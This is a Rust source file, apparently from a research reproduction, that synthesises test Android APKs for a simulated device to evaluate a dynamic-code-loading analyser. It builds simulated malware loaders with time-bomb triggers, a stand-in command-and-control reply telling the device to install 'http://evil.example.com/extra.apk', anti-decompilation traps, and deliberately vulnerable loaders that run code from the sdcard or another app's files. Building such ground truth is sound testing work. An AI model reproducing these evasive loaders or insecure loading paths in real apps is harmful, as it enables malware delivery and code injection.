@@ -1,0 +1,807 @@
+//! Materialises an [`AppPlan`] into a runnable APK plus its environment
+//! fixtures (hosted remote payloads, files pre-planted by other apps).
+
+use dydroid_dex::builder::{DexBuilder, MethodBuilder};
+use dydroid_dex::manifest::{INTERNET, WRITE_EXTERNAL_STORAGE};
+use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};
+
+use crate::emit::{self, Namer};
+use crate::names;
+use crate::packer;
+use crate::plan::{AppPlan, EntityPlan, MalwareFamily, VulnPlan};
+
+/// The repackaging trap entry (must match the analysis crate's
+/// `decompiler::ANTI_REPACK_TRAP`; asserted by an integration test).
+pub const ANTI_REPACK_TRAP: &str = "res/raw/.pack";
+
+/// A built app plus the environment it needs.
+#[derive(Debug, Clone)]
+pub struct BuildOutput {
+    /// The installable APK.
+    pub apk: Vec<u8>,
+    /// Remote resources to host: `(domain, path, bytes)`.
+    pub remote: Vec<(String, String, Vec<u8>)>,
+    /// Files other apps planted on the device: `(path, owner pkg, bytes)`.
+    pub device_files: Vec<(String, String, Vec<u8>)>,
+}
+
+/// Deferred body emitters for methods on the main activity.
+type OwnMethodBody = Box<dyn FnOnce(&mut MethodBuilder)>;
+
+/// What one loader contributes to the app under construction.
+enum LoaderInit {
+    /// `invoke-static class.method()V`.
+    Static(String, String),
+    /// `invoke-virtual this.method()V` on the main activity.
+    OwnMethod(String),
+}
+
+/// Builds the APK (and fixtures) for a plan.
+pub fn build_app(plan: &AppPlan) -> BuildOutput {
+    if plan.packer {
+        return build_packed(plan);
+    }
+
+    let pkg = &plan.package;
+    let mut namer = Namer::new(plan.lexical);
+    let main_simple = namer.class("MainActivity");
+    let main_cls = format!("{pkg}.{main_simple}");
+
+    let mut b = DexBuilder::new();
+    let mut assets: Vec<(String, Vec<u8>)> = Vec::new();
+    let mut libs: Vec<(String, Vec<u8>)> = Vec::new();
+    let mut remote: Vec<(String, String, Vec<u8>)> = Vec::new();
+    let mut device_files: Vec<(String, String, Vec<u8>)> = Vec::new();
+    let mut inits: Vec<LoaderInit> = Vec::new();
+    let mut own_methods: Vec<(String, OwnMethodBody)> = Vec::new();
+    let mut asset_counter = 0usize;
+    let hash = simple_hash(pkg);
+
+    // ------------------------------------------------------------------
+    // DEX DCL loaders.
+    // ------------------------------------------------------------------
+    if let Some(dex_plan) = &plan.dex {
+        if dex_plan.reachable && !plan.remote_fetch && plan.malware.is_none() {
+            // Third-party loader (ads or generic SDK).
+            if matches!(dex_plan.entity, EntityPlan::ThirdParty | EntityPlan::Both)
+                && plan.vuln.is_none()
+            {
+                let (sdk_pkg, payload_cls, payload) = if plan.google_ads {
+                    let cls = "com.google.ads.dynamic.AdContent".to_string();
+                    (
+                        names::GOOGLE_ADS_SDK.to_string(),
+                        cls.clone(),
+                        emit::ad_payload(&cls),
+                    )
+                } else {
+                    let vendor = names::sdk_vendor(hash);
+                    let cls = format!("{vendor}.payload.Collector");
+                    let types: Vec<usize> = plan
+                        .privacy
+                        .iter()
+                        .filter(|l| l.exclusively_third_party)
+                        .map(|l| l.type_index)
+                        .collect();
+                    (
+                        vendor.to_string(),
+                        cls.clone(),
+                        emit::privacy_payload(&cls, &types),
+                    )
+                };
+                let asset = format!("sdk{asset_counter}.bin");
+                asset_counter += 1;
+                let staged = format!("/data/data/{pkg}/cache/ad{asset_counter}.dex");
+                let odex = format!("/data/data/{pkg}/odex");
+                assets.push((asset.clone(), payload.to_bytes()));
+
+                let loader_cls = format!("{sdk_pkg}.{}", namer.class("AdLoader"));
+                let init_name = namer.member("init");
+                let c = b.class(&loader_cls, "java.lang.Object");
+                let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+                m.registers(12);
+                if plan.google_ads {
+                    // Real ad SDKs phone home for creatives before staging
+                    // their (local!) payload — the traffic that fools
+                    // path-heuristic provenance but not the flow graph.
+                    remote.push((
+                        "ads.google.example.com".to_string(),
+                        "/impression".to_string(),
+                        b"creative-manifest".to_vec(),
+                    ));
+                    emit::fetch_and_discard(m, "http://ads.google.example.com/impression");
+                }
+                emit::stage_asset(m, &asset, &staged);
+                emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
+                // The temp-file cleanup the interception hook suppresses.
+                emit::delete_file(m, &staged);
+                m.ret_void();
+                inits.push(LoaderInit::Static(loader_cls, init_name));
+            }
+            // Own loader.
+            if matches!(dex_plan.entity, EntityPlan::Own | EntityPlan::Both) && plan.vuln.is_none()
+            {
+                let payload_cls = format!("{pkg}.plugin.Module");
+                let types: Vec<usize> = plan
+                    .privacy
+                    .iter()
+                    .filter(|l| !l.exclusively_third_party)
+                    .map(|l| l.type_index)
+                    .collect();
+                let payload = emit::privacy_payload(&payload_cls, &types);
+                let asset = format!("own{asset_counter}.bin");
+                let staged = format!("/data/data/{pkg}/files/own.dex");
+                let odex = format!("/data/data/{pkg}/odex");
+                assets.push((asset.clone(), payload.to_bytes()));
+                let method = namer.member("loadPlugin");
+                own_methods.push((
+                    method.clone(),
+                    Box::new(move |m: &mut MethodBuilder| {
+                        emit::stage_asset(m, &asset, &staged);
+                        emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
+                    }),
+                ));
+                inits.push(LoaderInit::OwnMethod(method));
+            }
+        }
+        if !dex_plan.reachable {
+            // Dead DCL code: passes the static filter, never runs.
+            let vendor = names::sdk_vendor(hash + 1);
+            let loader_cls = format!("{vendor}.{}", namer.class("PrefetchHelper"));
+            let method = namer.member("prefetchLater");
+            let c = b.class(&loader_cls, "java.lang.Object");
+            let m = c.method(&method, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+            m.registers(8);
+            let staged = format!("/data/data/{pkg}/cache/never.dex");
+            m.const_str(1, &staged);
+            m.const_str(2, format!("/data/data/{pkg}/odex"));
+            m.new_instance(3, "dalvik.system.DexClassLoader");
+            m.invoke_direct(
+                MethodRef::new(
+                    "dalvik.system.DexClassLoader",
+                    "<init>",
+                    "(Ljava/lang/String;Ljava/lang/String;)V",
+                ),
+                vec![3, 1, 2],
+            );
+            m.ret_void();
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Remote-fetch loader (Table V).
+    // ------------------------------------------------------------------
+    if plan.remote_fetch {
+        let payload_cls = "com.baidu.mobads.dynamic.AdApp".to_string();
+        let payload = emit::ad_payload(&payload_cls);
+        let url_path = format!("/ads/pa/{pkg}.jar");
+        let url = format!("http://{}{}", names::BAIDU_DOMAIN, url_path);
+        remote.push((
+            names::BAIDU_DOMAIN.to_string(),
+            url_path,
+            payload.to_bytes(),
+        ));
+        let staged = format!("/data/data/{pkg}/files/update.jar");
+        let odex = format!("/data/data/{pkg}/odex");
+        let loader_cls = format!("{}.{}", names::BAIDU_SDK, namer.class("RemoteLoader"));
+        let init_name = namer.member("fetchAndLoad");
+        let c = b.class(&loader_cls, "java.lang.Object");
+        let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+        m.registers(12);
+        emit::download_to_file(m, &url, &staged);
+        emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
+        m.ret_void();
+        inits.push(LoaderInit::Static(loader_cls, init_name));
+    }
+
+    // ------------------------------------------------------------------
+    // Malware loaders (Tables VII/VIII).
+    // ------------------------------------------------------------------
+    if let Some((family, triggers)) = &plan.malware {
+        let loader_cls = format!("com.adsdk.bundle.{}", namer.class("PayloadManager"));
+        let init_name = namer.member("checkUpdates");
+        let mut drop_methods: Vec<String> = Vec::new();
+        {
+            let c = b.class(&loader_cls, "java.lang.Object");
+            for (i, trigger) in triggers.iter().enumerate() {
+                let method = format!("dropFile{i}");
+                let m = c.method(&method, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+                m.registers(12);
+                let skip = emit::trigger_guard(m, trigger);
+                match family {
+                    MalwareFamily::SwissCodeMonkeys => {
+                        // The family's C2 must answer the command fetch.
+                        remote.push((
+                            "swiss-c2.example.com".to_string(),
+                            "/cmd".to_string(),
+                            b"install_app http://evil.example.com/extra.apk".to_vec(),
+                        ));
+                        let (payload, entry) = emit::swiss_payload(hash + i);
+                        let asset = format!("mal{i}.bin");
+                        let staged = format!("/data/data/{pkg}/cache/mal{i}.dex");
+                        assets.push((asset.clone(), payload.to_bytes()));
+                        emit::stage_asset(m, &asset, &staged);
+                        emit::dex_load_and_run(
+                            m,
+                            &staged,
+                            &format!("/data/data/{pkg}/odex"),
+                            &entry,
+                            "run",
+                        );
+                    }
+                    MalwareFamily::AirpushMinimob => {
+                        let (payload, entry) = emit::airpush_payload(hash + i);
+                        let asset = format!("mal{i}.bin");
+                        let staged = format!("/data/data/{pkg}/cache/mal{i}.dex");
+                        assets.push((asset.clone(), payload.to_bytes()));
+                        emit::stage_asset(m, &asset, &staged);
+                        emit::dex_load_and_run(
+                            m,
+                            &staged,
+                            &format!("/data/data/{pkg}/odex"),
+                            &entry,
+                            "run",
+                        );
+                    }
+                    MalwareFamily::ChathookPtrace => {
+                        let soname = format!("libchathook{i}.so");
+                        let lib = emit::chathook_payload(&soname, hash + i);
+                        libs.push((soname.clone(), lib.to_bytes()));
+                        emit::load_library(m, &format!("chathook{i}"));
+                    }
+                }
+                m.bind(skip);
+                m.ret_void();
+                drop_methods.push(method);
+            }
+            let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+            m.registers(4);
+            for method in &drop_methods {
+                m.invoke_static(MethodRef::new(&loader_cls, method, "()V"), vec![]);
+            }
+            m.ret_void();
+        }
+        inits.push(LoaderInit::Static(loader_cls, init_name));
+    }
+
+    // ------------------------------------------------------------------
+    // Vulnerable loaders (Table IX).
+    // ------------------------------------------------------------------
+    match &plan.vuln {
+        Some(VulnPlan::DexExternal) => {
+            let payload_cls = format!("{pkg}.ext.Module");
+            let payload = emit::trivial_payload(&payload_cls);
+            let asset = "ext0.bin".to_string();
+            let staged = format!("/mnt/sdcard/im_sdk/jar/{pkg}.jar");
+            let odex = format!("/data/data/{pkg}/odex");
+            assets.push((asset.clone(), payload.to_bytes()));
+            let method = namer.member("loadFromSdcard");
+            own_methods.push((
+                method.clone(),
+                Box::new(move |m: &mut MethodBuilder| {
+                    emit::stage_asset(m, &asset, &staged);
+                    emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
+                }),
+            ));
+            inits.push(LoaderInit::OwnMethod(method));
+        }
+        Some(VulnPlan::NativeForeign { provider, soname }) => {
+            let path = format!("/data/data/{provider}/files/{soname}");
+            let libname = soname
+                .trim_start_matches("lib")
+                .trim_end_matches(".so")
+                .to_string();
+            device_files.push((
+                path.clone(),
+                provider.clone(),
+                emit::trivial_native(&format!("lib{libname}.so")).to_bytes(),
+            ));
+            let method = namer.member("attachSharedEngine");
+            own_methods.push((
+                method.clone(),
+                Box::new(move |m: &mut MethodBuilder| {
+                    emit::load_path(m, &path);
+                }),
+            ));
+            inits.push(LoaderInit::OwnMethod(method));
+        }
+        None => {}
+    }
+
+    // ------------------------------------------------------------------
+    // Native DCL loaders (generic).
+    // ------------------------------------------------------------------
+    if let Some(native_plan) = &plan.native {
+        let is_special = plan
+            .malware
+            .as_ref()
+            .map(|(f, _)| f.is_native())
+            .unwrap_or(false)
+            || matches!(plan.vuln, Some(VulnPlan::NativeForeign { .. }));
+        if !is_special {
+            if native_plan.reachable {
+                if matches!(
+                    native_plan.entity,
+                    EntityPlan::ThirdParty | EntityPlan::Both
+                ) {
+                    let vendor = names::sdk_vendor(hash + 2);
+                    let loader_cls = format!("{vendor}.{}", namer.class("NativeBridge"));
+                    let init_name = namer.member("attach");
+                    let soname = "libengine.so";
+                    libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
+                    let c = b.class(&loader_cls, "java.lang.Object");
+                    let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
+                    m.registers(8);
+                    emit::load_library(m, "engine");
+                    m.ret_void();
+                    inits.push(LoaderInit::Static(loader_cls, init_name));
+                }
+                if matches!(native_plan.entity, EntityPlan::Own | EntityPlan::Both) {
+                    let soname = "libowncore.so";
+                    libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
+                    let method = namer.member("initNativeCore");
+                    own_methods.push((
+                        method.clone(),
+                        Box::new(move |m: &mut MethodBuilder| {
+                            emit::load_library(m, "owncore");
+                        }),
+                    ));
+                    inits.push(LoaderInit::OwnMethod(method));
+                }
+            } else {
+                // Dead native-load code (bundled lib, never invoked).
+                let soname = "libghost.so";
+                libs.push((soname.to_string(), emit::trivial_native(soname).to_bytes()));
+                let method = namer.member("unusedNativeInit");
+                own_methods.push((
+                    method,
+                    Box::new(move |m: &mut MethodBuilder| {
+                        emit::load_library(m, "ghost");
+                    }),
+                ));
+                // Deliberately NOT added to `inits`.
+            }
+        }
+    }
+
+    // ------------------------------------------------------------------
+    // Reflection marker.
+    // ------------------------------------------------------------------
+    let helper_name = namer.member("refreshContent");
+    if plan.reflection {
+        let method = namer.member("dispatchDynamic");
+        let main_cls_clone = main_cls.clone();
+        let helper_clone = helper_name.clone();
+        own_methods.push((
+            method.clone(),
+            Box::new(move |m: &mut MethodBuilder| {
+                emit::reflection_usage(m, &main_cls_clone, &helper_clone);
+            }),
+        ));
+        inits.push(LoaderInit::OwnMethod(method));
+    }
+
+    // ------------------------------------------------------------------
+    // The main activity.
+    // ------------------------------------------------------------------
+    let callback_name = if plan.lexical {
+        format!("on{}", namer.member("x").to_uppercase())
+    } else {
+        "onClickRefresh".to_string()
+    };
+    {
+        let c = b.class(&main_cls, "android.app.Activity");
+        c.default_constructor();
+        // Public helper invoked reflectively and by the UI callback.
+        let m = c.method(&helper_name, "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.const_int(1, 1);
+        m.ret_void();
+        // The fuzzable UI callback.
+        let m = c.method(&callback_name, "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.const_int(1, 2);
+        m.ret_void();
+        // Own loader methods.
+        for (name, body) in own_methods {
+            let m = c.method(&name, "()V", AccessFlags::PUBLIC);
+            m.registers(12);
+            body(m);
+            m.ret_void();
+        }
+        // onCreate: crash, or run every loader init.
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(12);
+        if plan.crash_on_launch {
+            m.const_str(1, "NullPointerException: developer bug in onCreate");
+            m.throw(1);
+        } else {
+            for init in &inits {
+                match init {
+                    LoaderInit::Static(cls, method) => {
+                        m.invoke_static(MethodRef::new(cls, method, "()V"), vec![]);
+                    }
+                    LoaderInit::OwnMethod(method) => {
+                        m.invoke_virtual(MethodRef::new(&main_cls, method, "()V"), vec![0]);
+                    }
+                }
+            }
+            m.ret_void();
+        }
+    }
+
+    // Anti-decompilation trap.
+    if plan.anti_decompilation {
+        let cls = format!("{pkg}.internal.{}", namer.class("Guard"));
+        let c = b.class(&cls, "java.lang.Object");
+        let m = c.method(namer.member("spin"), "()V", AccessFlags::PRIVATE);
+        let head = m.label();
+        m.bind(head);
+        m.goto(head);
+    }
+
+    // ------------------------------------------------------------------
+    // Manifest + archive.
+    // ------------------------------------------------------------------
+    let mut manifest = Manifest::new(pkg.clone());
+    manifest.min_sdk = if matches!(plan.vuln, Some(VulnPlan::DexExternal)) {
+        14
+    } else {
+        16
+    };
+    manifest.add_permission(INTERNET);
+    if plan.has_write_external || matches!(plan.vuln, Some(VulnPlan::DexExternal)) {
+        manifest.add_permission(WRITE_EXTERNAL_STORAGE);
+    }
+    if !plan.no_activity {
+        manifest
+            .components
+            .push(Component::main_activity(&main_cls));
+    }
+
+    let mut apk = Apk::build(manifest, b.build());
+    for (name, data) in assets {
+        apk.put(format!("assets/{name}"), data);
+    }
+    for (soname, data) in libs {
+        apk.put(format!("lib/armeabi/{soname}"), data);
+    }
+    if plan.anti_repackaging {
+        apk.put(ANTI_REPACK_TRAP, vec![0x50, 0x4B]);
+    }
+
+    BuildOutput {
+        apk: apk.to_bytes(),
+        remote,
+        device_files,
+    }
+}
+
+fn build_packed(plan: &AppPlan) -> BuildOutput {
+    let pkg = &plan.package;
+    let real_main = format!("{pkg}.RealMain");
+    let mut manifest = Manifest::new(pkg.clone());
+    manifest.add_permission(INTERNET);
+    if plan.has_write_external {
+        manifest.add_permission(WRITE_EXTERNAL_STORAGE);
+    }
+    manifest
+        .components
+        .push(Component::main_activity(&real_main));
+
+    let mut b = DexBuilder::new();
+    {
+        let c = b.class(&real_main, "android.app.Activity");
+        c.default_constructor();
+        let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.const_int(1, 1);
+        m.ret_void();
+        let m = c.method("onClickPlay", "()V", AccessFlags::PUBLIC);
+        m.registers(4);
+        m.const_int(1, 2);
+        m.ret_void();
+    }
+    let apk = packer::pack_with_vendor(&manifest, &b.build(), &real_main, simple_hash(pkg));
+    BuildOutput {
+        apk: apk.to_bytes(),
+        remote: Vec::new(),
+        device_files: Vec::new(),
+    }
+}
+
+fn simple_hash(s: &str) -> usize {
+    s.bytes()
+        .fold(7usize, |a, b| a.wrapping_mul(31).wrapping_add(b as usize))
+        % 1_000
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::plan::{DclPlan, PrivacyLeakPlan, TriggerSet};
+    use crate::popularity::AppMetadata;
+    use dydroid_avm::{Device, DeviceConfig};
+    use dydroid_monkey::{Monkey, MonkeyConfig};
+
+    fn base_plan(pkg: &str) -> AppPlan {
+        AppPlan {
+            package: pkg.to_string(),
+            dex: None,
+            native: None,
+            lexical: false,
+            reflection: false,
+            packer: false,
+            anti_decompilation: false,
+            anti_repackaging: false,
+            no_activity: false,
+            crash_on_launch: false,
+            has_write_external: true,
+            google_ads: false,
+            remote_fetch: false,
+            malware: None,
+            vuln: None,
+            privacy: Vec::new(),
+            metadata: AppMetadata {
+                category: 0,
+                downloads: 1000,
+                rating_count: 10,
+                avg_rating: 4.0,
+            },
+        }
+    }
+
+    fn run_app(out: &BuildOutput, pkg: &str) -> Device {
+        let mut device = Device::new(DeviceConfig::default());
+        for (domain, path, bytes) in &out.remote {
+            device.net.host(domain, path, bytes.clone());
+        }
+        for (path, owner, bytes) in &out.device_files {
+            device
+                .fs
+                .write_system(path, bytes.clone(), dydroid_avm::Owner::app(owner.clone()));
+        }
+        device.install(&out.apk).unwrap();
+        let mut monkey = Monkey::new(MonkeyConfig::default());
+        let outcome = monkey.exercise(&mut device, pkg).unwrap();
+        assert!(
+            outcome.is_clean(),
+            "{pkg} should run clean: {:?}\nlog: {:?}",
+            outcome,
+            device.log.events()
+        );
+        device
+    }
+
+    #[test]
+    fn plain_app_builds_and_runs() {
+        let plan = base_plan("com.plain.app");
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.plain.app");
+        assert_eq!(device.log.dcl_events().count(), 0);
+    }
+
+    #[test]
+    fn ads_app_loads_and_cleans_up() {
+        let mut plan = base_plan("com.ads.game");
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::ThirdParty,
+        });
+        plan.google_ads = true;
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.ads.game");
+        let dcl: Vec<_> = device.log.dcl_events().collect();
+        assert_eq!(dcl.len(), 1);
+        assert!(dcl[0].call_site_class.starts_with("com.google.ads"));
+        // The temp file survived thanks to the interception hook.
+        assert_eq!(device.hooks.intercepted().len(), 1);
+        assert!(device.fs.exists(&device.hooks.intercepted()[0].path));
+    }
+
+    #[test]
+    fn both_entity_app_has_two_call_sites() {
+        let mut plan = base_plan("com.both.app");
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::Both,
+        });
+        plan.privacy.push(PrivacyLeakPlan {
+            type_index: 1,
+            exclusively_third_party: true,
+        });
+        plan.privacy.push(PrivacyLeakPlan {
+            type_index: 0,
+            exclusively_third_party: false,
+        });
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.both.app");
+        let sites: std::collections::HashSet<String> = device
+            .log
+            .dcl_events()
+            .map(|d| d.call_site_class.clone())
+            .collect();
+        assert_eq!(sites.len(), 2);
+        assert!(sites.iter().any(|s| s.starts_with("com.both.app")));
+        assert!(sites.iter().any(|s| !s.starts_with("com.both.app")));
+    }
+
+    #[test]
+    fn dead_dcl_not_executed_but_present() {
+        let mut plan = base_plan("com.dead.code");
+        plan.dex = Some(DclPlan {
+            reachable: false,
+            entity: EntityPlan::ThirdParty,
+        });
+        plan.native = Some(DclPlan {
+            reachable: false,
+            entity: EntityPlan::ThirdParty,
+        });
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.dead.code");
+        assert_eq!(device.log.dcl_events().count(), 0);
+        // But the code exists for the static filter.
+        let apk = Apk::parse(&out.apk).unwrap();
+        let filter = dydroid_analysis::DclFilter::scan(&apk.classes().unwrap());
+        assert!(filter.has_dex_dcl);
+        assert!(filter.has_native_dcl);
+    }
+
+    #[test]
+    fn remote_fetch_app_is_remote() {
+        let mut plan = base_plan("com.fetch.app");
+        plan.remote_fetch = true;
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::ThirdParty,
+        });
+        let out = build_app(&plan);
+        assert_eq!(out.remote.len(), 1);
+        let device = run_app(&out, "com.fetch.app");
+        let dcl: Vec<_> = device.log.dcl_events().collect();
+        assert_eq!(dcl.len(), 1);
+        assert!(device.hooks.flow.is_remote(&dcl[0].path));
+        assert!(dcl[0].call_site_class.starts_with(names::BAIDU_SDK));
+    }
+
+    #[test]
+    fn chathook_app_ptraces() {
+        let mut plan = base_plan("com.game.chat");
+        plan.native = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::ThirdParty,
+        });
+        plan.malware = Some((MalwareFamily::ChathookPtrace, vec![TriggerSet::none()]));
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.game.chat");
+        assert!(device
+            .log
+            .behaviors("com.game.chat")
+            .any(|b| matches!(b, dydroid_avm::BehaviorEvent::PtraceAttach { .. })));
+        assert_eq!(device.log.dcl_events().count(), 1);
+    }
+
+    #[test]
+    fn vulnerable_apps_load_risky_paths() {
+        let mut plan = base_plan("com.vuln.sdcard");
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::Own,
+        });
+        plan.vuln = Some(VulnPlan::DexExternal);
+        let out = build_app(&plan);
+        let device = run_app(&out, "com.vuln.sdcard");
+        let dcl: Vec<_> = device.log.dcl_events().collect();
+        assert_eq!(dcl.len(), 1);
+        assert!(dcl[0].path.starts_with("/mnt/sdcard/"));
+
+        let mut plan = base_plan("com.vuln.foreign");
+        plan.native = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::Own,
+        });
+        plan.vuln = Some(VulnPlan::NativeForeign {
+            provider: "com.adobe.air".to_string(),
+            soname: "libCore.so".to_string(),
+        });
+        let out = build_app(&plan);
+        assert_eq!(out.device_files.len(), 1);
+        let device = run_app(&out, "com.vuln.foreign");
+        let dcl: Vec<_> = device.log.dcl_events().collect();
+        assert_eq!(dcl.len(), 1);
+        assert_eq!(dcl[0].path, "/data/data/com.adobe.air/files/libCore.so");
+    }
+
+    #[test]
+    fn crash_plan_crashes() {
+        let mut plan = base_plan("com.buggy.app");
+        plan.crash_on_launch = true;
+        let out = build_app(&plan);
+        let mut device = Device::new(DeviceConfig::default());
+        device.install(&out.apk).unwrap();
+        let mut monkey = Monkey::new(MonkeyConfig::default());
+        let outcome = monkey.exercise(&mut device, "com.buggy.app").unwrap();
+        assert!(!outcome.is_clean());
+    }
+
+    #[test]
+    fn lexical_flag_changes_identifiers() {
+        let mut plan = base_plan("com.obf.app");
+        plan.lexical = true;
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::ThirdParty,
+        });
+        let out = build_app(&plan);
+        let apk = Apk::parse(&out.apk).unwrap();
+        assert!(dydroid_analysis::obfuscation::detect_lexical(
+            &apk.classes().unwrap()
+        ));
+        let mut plan2 = base_plan("com.clear.app");
+        plan2.dex = plan.dex;
+        let out2 = build_app(&plan2);
+        let apk2 = Apk::parse(&out2.apk).unwrap();
+        assert!(!dydroid_analysis::obfuscation::detect_lexical(
+            &apk2.classes().unwrap()
+        ));
+        // Lexical app still runs.
+        run_app(&out, "com.obf.app");
+    }
+
+    #[test]
+    fn reflection_flag_detected_and_runs() {
+        let mut plan = base_plan("com.refl.app");
+        plan.reflection = true;
+        let out = build_app(&plan);
+        let apk = Apk::parse(&out.apk).unwrap();
+        assert!(dydroid_analysis::obfuscation::detect_reflection(
+            &apk.classes().unwrap()
+        ));
+        run_app(&out, "com.refl.app");
+    }
+
+    #[test]
+    fn packed_plan_builds_runnable_packed_app() {
+        let mut plan = base_plan("com.packed.app");
+        plan.packer = true;
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::Own,
+        });
+        let out = build_app(&plan);
+        let decompiled = dydroid_analysis::decompiler::decompile(&out.apk).unwrap();
+        assert!(dydroid_analysis::obfuscation::detect_dex_encryption(
+            &decompiled
+        ));
+        run_app(&out, "com.packed.app");
+    }
+
+    #[test]
+    fn time_bomb_malware_hides_before_release() {
+        let mut plan = base_plan("com.bomb.app");
+        plan.dex = Some(DclPlan {
+            reachable: true,
+            entity: EntityPlan::ThirdParty,
+        });
+        plan.malware = Some((
+            MalwareFamily::AirpushMinimob,
+            vec![TriggerSet {
+                time_bomb: true,
+                ..TriggerSet::none()
+            }],
+        ));
+        let out = build_app(&plan);
+        // After release: loads.
+        let device = run_app(&out, "com.bomb.app");
+        assert_eq!(device.log.dcl_events().count(), 1);
+        // Before release: hidden.
+        let config = DeviceConfig {
+            time_ms: emit::RELEASE_MS - 1,
+            ..Default::default()
+        };
+        let mut device = Device::new(config);
+        device.install(&out.apk).unwrap();
+        let mut monkey = Monkey::new(MonkeyConfig::default());
+        monkey.exercise(&mut device, "com.bomb.app").unwrap();
+        assert_eq!(device.log.dcl_events().count(), 0);
+    }
+}
